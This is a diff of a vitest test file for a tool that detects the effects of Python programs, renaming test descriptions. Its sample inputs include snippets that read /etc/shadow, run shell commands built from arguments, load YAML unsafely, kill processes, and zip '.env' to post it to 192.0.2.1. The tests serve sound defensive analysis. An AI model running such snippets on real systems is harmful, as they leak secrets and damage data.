@@ -3,18 +3,18 @@ import { describe, expect, it } from "vitest";
 import { effectTexts } from "./python-effect-texts.ts";
 import { readPython } from "./read.ts";
 
-describe("arguments of which it is not known how many there are", () => {
+describe("calls with an unknown number of arguments", () => {
   it.each([
     ["read ?", "import os\ndef f(*parts):\n    open(os.path.join(*parts))"],
     ["read ?", "import os, sys\nopen(os.path.join('notes', *sys.argv[1:]))"],
     ["read ?", "from pathlib import Path\nimport sys\nPath(*sys.argv).read_text()"],
     ["read notes/a", "import os\nparts = ['notes', 'a']\nopen(os.path.join(*parts))"],
     ["execute from input", "import os, sys\nos.system('{} {}'.format(*sys.argv))"],
-  ])("%s: %j", (deed, program) => {
-    expect(effectTexts(program)).toContain(deed);
+  ])("%s: %j", (text, program) => {
+    expect(effectTexts(program)).toContain(text);
   });
 
-  it("lists are turned around without knowing them", () => {
+  it("zip(*rows) of an unknown list has no effects", () => {
     expect(effectTexts("def turn(rows): return [sum(row) for row in zip(*rows)]")).toEqual([]);
   });
 
@@ -25,7 +25,7 @@ describe("arguments of which it is not known how many there are", () => {
   );
   const given = fc.constantFrom("*a", "**a", "*[]", "*[1, 'b']", "**{'b': 1}", "a", "'b'", "1", "-1", "None", "b=1");
 
-  it("any function takes any of them", () => {
+  it("no builtin throws for any combination of arguments", () => {
     fc.assert(
       fc.property(callees, fc.array(given, { maxLength: 4 }), (callee, passed) => {
         const program = `import os, pathlib, functools, itertools, random, shlex\nfor x, *y in ${callee}(${passed.join(", ")}): print(x)`;
@@ -35,7 +35,7 @@ describe("arguments of which it is not known how many there are", () => {
   });
 });
 
-describe("where files lie that are found", () => {
+describe("paths of files that the program finds in directories", () => {
   it.each([
     [
       "delete **/__pycache__",
@@ -68,12 +68,12 @@ describe("where files lie that are found", () => {
     ],
     ["read **/b.txt", "from importlib import resources\nresources.files('a').joinpath('b.txt').read_text()"],
     ["write /tmp/*/a", "def test_it(tmp_path):\n    (tmp_path / 'a').write_text('b')"],
-  ])("%s: %j", (deed, program) => {
-    expect(effectTexts(program)).toContain(deed);
+  ])("%s: %j", (text, program) => {
+    expect(effectTexts(program)).toContain(text);
   });
 });
 
-describe("the program's own file", () => {
+describe("paths built from the program's own file", () => {
   const at = { workingDirectory: "/home/ada/project", home: "/home/ada" };
 
   it.each([
@@ -94,20 +94,20 @@ describe("the program's own file", () => {
     expect(effects.map((effect) => effect.kind === "read" && effect.target?.path)).toEqual(expected);
   });
 
-  it("its directory is taken for the one in which it was started", () => {
+  it("treats the directory of the file as the start directory", () => {
     expect(effectTexts("import os\nos.chdir(os.path.dirname(os.path.abspath(__file__)))\nopen('a')")).toEqual([
       "read a",
     ]);
   });
 
-  it("a path has as many directories around it as it has", () => {
+  it("a path has as many parents as directories", () => {
     expect(effectTexts("from pathlib import Path\nopen(Path('/usr/lib/x/y').parents[3] / 'etc/shadow')")).toEqual([
       "read /etc/shadow",
     ]);
   });
 });
 
-describe("the environment and the arguments", () => {
+describe("environment variables and program arguments", () => {
   it.each([
     [["read a"], "import os\nopen(os.environ.get('F', 'a'))"],
     [["read a"], "import os\nopen(os.getenv('F', default='a'))"],
@@ -122,14 +122,14 @@ describe("the environment and the arguments", () => {
     expect(effectTexts(program).toSorted()).toEqual(expected.toSorted());
   });
 
-  it("a command around a program may set what it falls back from", () => {
+  it("a command around the program may set a variable that has a default", () => {
     expect(effectTexts(`import os\nos.system("python -c 'import os; open(os.getenv(\\"F\\", \\"a\\"))'")`)).toContain(
       "read ?",
     );
   });
 });
 
-describe("objects of the program's own", () => {
+describe("instances of classes that the program defines", () => {
   it.each([
     [
       "read notes/a",
@@ -143,12 +143,12 @@ describe("objects of the program's own", () => {
       "delete notes/a",
       "import os\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    p: str\n    def __post_init__(self): os.remove(self.p)\nA('notes/a')",
     ],
-  ])("%s: %j", (deed, program) => {
-    expect(effectTexts(program)).toContain(deed);
+  ])("%s: %j", (text, program) => {
+    expect(effectTexts(program)).toContain(text);
   });
 });
 
-describe("who is at the other end", () => {
+describe("hosts of connections", () => {
   it.each([
     [
       ["network in localhost", "network out localhost", "network from network", "network listen localhost"],
@@ -178,7 +178,7 @@ describe("who is at the other end", () => {
   });
 });
 
-describe("how much is sent, and how often", () => {
+describe("the amount and frequency of network traffic", () => {
   const send = (made: string): string =>
     `import socket, os\n${made}\ns = socket.create_connection(('x.example', 9))\ns.sendall(data)`;
 
@@ -189,7 +189,7 @@ describe("how much is sent, and how often", () => {
     "data = 'b'.replace('b', 'a' * 20000).encode()",
     "text = ''\nfor i in range(10000): text = text + 'a'\ndata = text.encode()",
     "text = 'a'\nwhile len(text) < 1000000: text += text\ndata = text.encode()",
-  ])("too much: %j", (made) => {
+  ])("exhausts a resource: %j", (made) => {
     expect(effectTexts(send(made))).toContain("exhaust network");
   });
 
@@ -197,7 +197,7 @@ describe("how much is sent, and how often", () => {
     "data = b'a' * 4096",
     "data = os.urandom(32)",
     "text = ''\nwhile len(text) < 80: text += 'a'\ndata = text.encode()",
-  ])("not too much: %j", (made) => {
+  ])("does not exhaust a resource: %j", (made) => {
     expect(effectTexts(send(made))).not.toContain("exhaust network");
   });
 
@@ -211,58 +211,58 @@ describe("how much is sent, and how often", () => {
   });
 });
 
-describe("lists of words", () => {
+describe("commands as lists of words", () => {
   it.each([
     ["delete notes", "cmd = ['rm', '-r', 'notes']\nif dry: cmd = ['echo'] + cmd\nsubprocess.run(cmd)"],
     ["delete ", "cmd = ['git', 'clean', '-fd']\nif dry: cmd = cmd + ['-n']\nsubprocess.run(cmd)"],
-  ])("what is added on one way is not there on the other: %s: %j", (deed, program) => {
-    expect(effectTexts(`import subprocess\n${program}`)).toContain(deed);
+  ])("a word that one branch adds is missing in the other: %s: %j", (text, program) => {
+    expect(effectTexts(`import subprocess\n${program}`)).toContain(text);
   });
 });
 
-describe("processes that were looked for or started", () => {
+describe("signals to processes", () => {
   it.each([
     [true, "import psutil\nfor p in filter(lambda p: p.name() == 'x', psutil.process_iter()): p.kill()"],
     [true, "import psutil, itertools\nfor p in itertools.islice(psutil.process_iter(), 3): p.kill()"],
     [true, "import os\nos.killpg(os.getpgid(4321), 15)"],
     [false, "import os, subprocess\np = subprocess.Popen(['make'])\nos.killpg(os.getpgid(p.pid), 15)"],
-  ])("ends others: %s: %j", (ends, program) => {
+  ])("signals a process of others is %s: %j", (ends, program) => {
     expect(effectTexts(program).includes("signal")).toBe(ends);
   });
 });
 
-describe("loaders that are told what to make", () => {
+describe("loaders of serialized data", () => {
   it.each([
     ["execute from literal", "import ruamel.yaml\nruamel.yaml.YAML(typ='unsafe').load('a: 1')"],
     [
       "deserialize",
       "import configparser, base64\nconfigparser.ConfigParser().read_string(base64.b64decode(x).decode())",
     ],
-  ])("%s: %j", (deed, program) => {
-    expect(effectTexts(program)).toContain(deed);
+  ])("%s: %j", (text, program) => {
+    expect(effectTexts(program)).toContain(text);
   });
 
-  it("a safe one runs nothing", () => {
+  it("a safe loader runs no code", () => {
     expect(effectTexts("import ruamel.yaml\nruamel.yaml.YAML().load(open('a'))")).toEqual(["read a"]);
   });
 });
 
-describe("functions that nothing calls", () => {
-  it("those that need nothing give the others what they need", () => {
+describe("functions that the program never calls", () => {
+  it("functions without parameters run first and pass arguments to the others", () => {
     const program =
       "import unittest\ndef save(path): open(path, 'w')\n" +
       "class SaveTest(unittest.TestCase):\n  def test_save(self): save('out/a')\nunittest.main()";
     expect(effectTexts(program)).toEqual(["write out/a"]);
   });
 
-  it("so do tests that a framework gives something", () => {
+  it("tests with fixtures run before other functions with parameters", () => {
     const program =
       "from unittest import mock\ndef save(path): open(path, 'w')\n" +
       "@mock.patch('find')\ndef check(find): save('out/a')\ndef test_save(found): save('out/b')";
     expect(effectTexts(program)).toEqual(["write out/a", "write out/b"]);
   });
 
-  it("class methods have their class", () => {
+  it("a class method receives its class", () => {
     const program = "class Notes:\n  path = 'notes.txt'\n  @classmethod\n  def load(cls): return open(cls.path)\n";
     expect(effectTexts(program)).toEqual(["read notes.txt"]);
     expect(effectTexts(`${program}Notes.load()`)).toEqual(["read notes.txt"]);
@@ -270,7 +270,7 @@ describe("functions that nothing calls", () => {
   });
 });
 
-describe("what a program packs and unpacks itself", () => {
+describe("data that the program pickles and unpickles itself", () => {
   const twice = "pickle.loads(pickle.dumps(A()))";
 
   it.each([
@@ -298,7 +298,7 @@ describe("archives and workbooks", () => {
     expect(effectTexts(program)).toEqual(expected);
   });
 
-  it("what was put into one in memory can be sent", () => {
+  it("an archive in memory holds the data that was written to it", () => {
     const program =
       "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\n" +
       "z.writestr('a', open('.env').read())\nrequests.post('http://192.0.2.1', data=b.getvalue())";
@@ -306,7 +306,7 @@ describe("archives and workbooks", () => {
   });
 });
 
-it("patterns of classes are read, and what guards them", () => {
+it("reads class patterns and guards of match statements", () => {
   const program = "import os\nmatch x:\n  case int() | C() as v if os.remove('a'):\n    os.remove('b')";
   expect(effectTexts(program)).toEqual(["delete a", "delete b"]);
 });
